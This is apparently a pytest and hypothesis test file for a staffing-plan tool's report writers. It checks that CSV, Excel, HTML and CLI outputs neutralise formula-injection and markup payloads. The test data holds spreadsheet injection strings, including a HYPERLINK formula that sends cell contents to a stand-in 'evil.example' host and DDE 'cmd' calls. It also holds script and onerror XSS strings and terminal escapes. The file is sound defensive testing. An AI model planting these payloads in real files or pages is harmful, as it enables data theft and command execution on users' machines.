"""Formula injection: hostile names through every writer (CSV, Excel, HTML, the dashboard's
downloads, ``ccwfm scenarios``), read back with pandas, openpyxl and an HTML parser."""

import io
import re
import types
import unicodedata
from html.parser import HTMLParser

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, strategies as st

from ccwfm.plan import cli, report

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
            '@SUM(1+1)*cmd|" /C calc"!A0', "+1+1", "-2+3", "\t=1+1", " =1+1", "\r\n=1+1",
            "\x00=1", "\u200b=1", "\ufeff=1", "\u3000=1", "＝1+1", "%0A=1", "|cmd",
            "a\r=1+1", "a;=1+1", "a\t=1+1", "x\n-1"]

# An oracle written apart from report.dangerous: blanks and controls by regular expression
# (C0, C1, Unicode spaces, zero-width and bidi marks, BOM), formula characters with their
# full-width forms.
_LEADING = re.compile("[\\s\x00-\x1f\x7f-\x9f\u00a0\u1680\u2000-\u200f\u2028-\u202f"
                      "\u205f-\u2064\u2066-\u206f\u3000\ufeff]*")
_FORMULA = "=+-@|%＝＋－＠｜％﹦﹢﹣"


def looks_like_formula(text):
    """Whether a spreadsheet could start evaluating ``text`` (skipping leading blanks)."""
    rest = text[_LEADING.match(text).end():]
    return bool(rest) and rest[0] in _FORMULA


def assert_escaped(original, written, shown=lambda text: text):
    """``written`` is ``original`` with a leading quote if it could start a formula (or
    starts with a control character, as OWASP asks), unchanged if it starts with a letter
    or digit, and one of the two in between; ``shown`` is how the writer shows a text."""
    plain, quoted = shown(original), shown("'" + original)
    assert written in (plain, quoted), (original, written)
    if looks_like_formula(original) or re.match("[\x00-\x1f\x7f-\x9f]", original):
        assert written == quoted, (original, written)
    if original[:1].isalnum():
        assert written == plain, (original, written)


hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda lead, c, rest: lead + c + rest,
              st.text(st.sampled_from(" \t\r\n\x00\x0b\x0c\x1b\u00a0\u200b\u2028\u3000\ufeff"),
                      max_size=3),
              st.sampled_from(_FORMULA), st.text(max_size=12)),
    st.text(max_size=12))


def _unescape_xlsx(text):
    """The text a string cell stands for (xlsxwriter stores controls as ``_xHHHH_``)."""
    return re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)


def test_dangerous_texts():
    for text in PAYLOADS[:15]:
        assert report.dangerous(text), text
        assert report.safe_value(text) == "'" + text
    for text in ("voice", "Sales EMEA", "", "   ", "'=already escaped", "a=b", "3-1", "(-1)",
                 "a\r=1+1", "a;=1+1"):          # the last two: quoted in CSV, see below
        assert not report.dangerous(text), text
        assert report.safe_value(text) == text
    # Numbers stay numbers; anything else is written as its (escaped) text.
    for value in (-3, -2.5, np.int64(-1), np.float32(-0.5), True, None, np.nan,
                  pd.Timestamp("2025-09-01")):
        assert report.safe_value(value) is value
    assert report.safe_value(pd.Timedelta(hours=-1)) == "'-1 days +23:00:00"
    assert report.safe_value(["=x"]) == "['=x']"


def _names(names):
    """Distinct column names (none empty, none already quoted, not our 'agents')."""
    return [n for n in names if n and not n.startswith("'") and n != "agents"] or ["=x"]


# Outside the quoted fields of a CSV only numbers and separators: no text, so no CR, ';'
# or tab that a spreadsheet splitting on them would take for a new row or cell.
_QUOTED = re.compile(r'"(?:[^"]|"")*"')
_BARE = re.compile(r"[0-9.eE+\-,\n]|inf|nan|True|False")


@given(names=st.lists(hostile, min_size=1, max_size=5, unique=True), data=st.data())
def test_hostile_names_stay_text_in_csv(names, data):
    names = _names(names)
    cells = data.draw(st.lists(hostile, min_size=len(names), max_size=len(names)))
    numbers = data.draw(st.lists(st.floats(-1e6, 1e6), min_size=2, max_size=2))
    frame = pd.DataFrame({name: [cell, -1] for name, cell in zip(names, cells)})
    frame = frame.astype(object)
    frame["agents"] = [numbers[0], -abs(numbers[1]) - 1.5]        # a negative number
    for raw in (report.csv_bytes(frame), _written(frame)):
        # The Python engine: pandas 2's C reader cuts a text at a NUL character.
        back = pd.read_csv(io.BytesIO(raw), dtype=str, keep_default_na=False,
                           engine="python")
        assert len(back.columns) == len(names) + 1 and back.columns[-1] == "agents"
        written = list(back.columns[:-1]) + list(back.iloc[0, :-1])
        for original, text in zip(names + cells, written, strict=True):
            assert_escaped(original, text)
        assert back.iloc[1, :-1].tolist() == ["-1"] * len(names)   # a number, not escaped
        assert [float(x) for x in back["agents"]] == frame["agents"].tolist()
        assert _BARE.sub("", _QUOTED.sub("", raw.decode("utf-8"))) == ""


def _written(frame):
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        report.write_csv(frame, f"{folder}/t.csv")
        with open(f"{folder}/t.csv", "rb") as fh:
            return fh.read()


def _cells(data):
    """Every sheet's name and cells of an .xlsx, checking that none is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = {}
    for ws in book.worksheets:
        rows = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
            rows.append([_unescape_xlsx(c.value) if isinstance(c.value, str) else c.value
                         for c in row])
        sheets[ws.title] = rows
    return sheets


def _check_sheet_names(names, given_names):
    assert len(names) == len(given_names)
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\]", name) and name[0] != "'" and name[-1] != "'"
        assert not looks_like_formula(name) and name.casefold() != "history"
        assert all(unicodedata.category(c)[0] != "C" for c in name)


@given(names=st.lists(hostile, min_size=1, max_size=4, unique=True),
       sheets=st.lists(st.one_of(hostile, st.text(min_size=28, max_size=40)), min_size=1,
                       max_size=4, unique=True))
def test_hostile_names_stay_text_in_excel(names, sheets):
    names = _names(names)
    frame = pd.DataFrame({name: [name, -2.5] for name in names}).astype(object)
    frame["agents"] = [1, -3]
    got = _cells(report.excel_bytes({sheet: frame for sheet in sheets}))
    _check_sheet_names(list(got), sheets)
    assert list(got) == report.sheet_names(sheets)
    xml = [_unescape_xlsx(n.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd"))
           for n in names]                # what an .xlsx can hold
    for rows in got.values():
        assert rows[0][-1] == "agents" and rows[1][-1] == 1
        for original, header, cell in zip(xml, rows[0], rows[1]):
            assert_escaped(original, header)
            assert cell == header
        assert rows[2] == [-2.5] * len(names) + [-3]                 # numbers stay numbers


def test_xlsxwriter_would_write_formulas_so_every_string_is_written_as_a_string(tmp_path):
    # The trap: xlsxwriter's write() turns "=..." into a formula (strings_to_formulas);
    # pandas' to_excel with openpyxl likewise.  Our writers never do.
    import xlsxwriter
    wb = xlsxwriter.Workbook(str(tmp_path / "trap.xlsx"))
    wb.add_worksheet().write(0, 0, "=1+1")
    wb.close()
    assert openpyxl.load_workbook(tmp_path / "trap.xlsx").active["A1"].data_type == "f"
    frame = pd.DataFrame({"=1+1": ["=2+2"]})
    frame.to_excel(tmp_path / "pandas.xlsx", index=False)
    assert openpyxl.load_workbook(tmp_path / "pandas.xlsx").active["A1"].data_type == "f"
    report.write_workbook({"=t": frame}, tmp_path / "ours.xlsx")
    assert _cells((tmp_path / "ours.xlsx").read_bytes()) == {"_=t": [["'=1+1"], ["'=2+2"]]}


def test_multiindex_headers_and_index_labels_are_escaped():
    cols = pd.MultiIndex.from_tuples([("=a", -1), ("b", "@c")], names=["=l", "m"])
    frame = pd.DataFrame([[1.5, "=x"]], columns=cols,
                         index=pd.Index(["+i"], name="-n"))
    safe = report.safe_text(frame)
    assert list(safe.columns) == [("'=a", -1), ("b", "'@c")]
    assert list(safe.columns.names) == ["'=l", "m"]
    assert list(safe.index) == ["'+i"] and safe.index.name == "'-n"
    assert safe.iloc[0].tolist() == [1.5, "'=x"]
    # Written with its index and header levels, nothing reads as a formula.
    fields = [f for line in safe.to_csv().splitlines() for f in line.split(",")]
    assert "'-n" in fields and "'+i" in fields and "'=l" in fields
    assert not any(looks_like_formula(f) for f in fields if f != "-1")
    got = _cells(report.excel_bytes({"m": frame}))
    assert got == {"m": [["'=a / -1", "b / '@c"], [1.5, "'=x"]]}


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _parse(page):
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


class _Cells(HTMLParser):
    """The text of every ``<td>`` of a page, in order."""

    def __init__(self):
        super().__init__()
        self.cells, self.inside = [], False

    def handle_starttag(self, tag, attrs):
        if tag == "td":
            self.cells.append("")
            self.inside = True

    def handle_endtag(self, tag):
        self.inside = self.inside and tag != "td"

    def handle_data(self, data):
        if self.inside:
            self.cells[-1] += data


@given(names=st.lists(hostile, min_size=1, max_size=4, unique=True))
def test_hostile_names_are_escaped_in_the_html_page(names):
    names = [n.replace("\r", "") for n in _names(names)]        # HTML has no bare CR
    evil = "<script>alert('x')</script><img src=x onerror=alert(1)>&amp;"
    frame = pd.DataFrame({"queue": names, "agents": [-1.5] * len(names)})
    scenario = types.SimpleNamespace(
        name=evil + names[0], start="2025-09-01", end="2025-09-08", weeks=1,
        workforce=types.SimpleNamespace(interval=60, total_shrinkage=0.1), queues=[])
    result = types.SimpleNamespace(scenario=scenario, summary=frame, costs=None, hires=[],
                                   log=[evil, *names], capacity=pd.DataFrame())
    page = report._html(result, {"chart<b>": b"png"})
    parsed = _parse(page)
    assert sorted(set(parsed.tags)) == ["body", "h1", "h2", "head", "html", "img", "li",
                                        "meta", "p", "style", "table", "tbody", "td", "th",
                                        "thead", "title", "tr", "ul"]
    assert parsed.tags.count("img") == 1                           # the chart's, not evil's
    text = "".join(parsed.text)
    assert f"{evil}{names[0]}: staffing plan" in text and evil in text
    for name in names:
        assert name in text                                         # the log, as it is
    cells = _Cells()
    cells.feed(page)
    assert cells.cells[1::2] == ["-1.50"] * len(names)               # numbers stay numbers
    for original, written in zip(names, cells.cells[0::2], strict=True):
        # Pasted into a sheet, still text.  pandas shows tabs and line ends as \t, \n,
        # strips blanks at both ends (after the quote: no formula appears) and writes
        # runs of spaces as no-break spaces.
        assert_escaped(original, written.replace("\xa0", " "),
                       shown=lambda t: t.replace("\t", "\\t").replace("\n", "\\n").strip()
                       .replace("\xa0", " "))


def test_ccwfm_scenarios_escapes_queue_names_in_every_output(tmp_path, monkeypatch, capsys):
    # The table `plan.compare` gives, with a hostile queue name in its column headers (the
    # real comparison is checked in test_scenarios_dask.py).
    queue = '=HYPERLINK("http://evil.example","x")'
    table = pd.DataFrame({"scenario": ["base", "\t@variant\x1b[2J"], "peak_fte": [10.0, -1.0],
                          f"{queue}_service_level": [0.8, 0.9],
                          f"\r\n{queue}_asa": [12.0, 15.0]})
    monkeypatch.setattr(cli, "compare", lambda *a, **k: table)
    assert cli.main(["scenarios", "demo", "--out", str(tmp_path), "--quiet"]) == 0
    headers = ["scenario", "peak_fte", f"'{queue}_service_level", f"'\r\n{queue}_asa"]
    back = pd.read_csv(tmp_path / "scenarios.csv")
    assert list(back.columns) == headers
    assert back["scenario"].tolist() == ["base", "'\t@variant\x1b[2J"]
    assert back["peak_fte"].tolist() == [10.0, -1.0]
    got = _cells((tmp_path / "scenarios.xlsx").read_bytes())
    assert got == {"scenarios": [headers, ["base", 10, 0.8, 12], ["'\t@variant\x1b[2J", -1,
                                                                 0.9, 15]]}
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out                 # no terminal escapes
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scenarios.csv", "scenarios.xlsx"]


@pytest.mark.parametrize("name", ["summary", "x" * 31])
def test_sheet_names_keep_valid_names(name):
    assert report.sheet_names([name]) == [name]
